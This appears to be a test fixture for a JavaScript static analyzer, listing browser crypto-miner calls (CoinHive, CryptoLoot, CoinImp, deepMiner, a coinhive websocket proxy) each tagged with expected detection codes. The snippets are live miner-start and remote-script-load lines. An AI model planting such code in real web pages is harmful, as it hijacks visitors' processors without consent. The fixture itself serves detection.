// Technique: browser crypto-miners, by name.
var miner = new CoinHive.Anonymous('SITE_KEY', { throttle: 0.3 }); // expect: SA401
miner.start();
var m2 = new CryptoLoot.Anonymous('KEY'); // expect: SA401
var m3 = new Client.Anonymous('key', { c: 'w' });
var sock = new WebSocket('wss://ws001.coinhive.com/proxy'); // expect: SA401, SA501
loadScript('https://www.coinimp.com/scripts/min.js'); // expect: SA401
var algo = 'cryptonight'; // expect: SA401
deepMiner.Anonymous('pool'); // expect: SA401
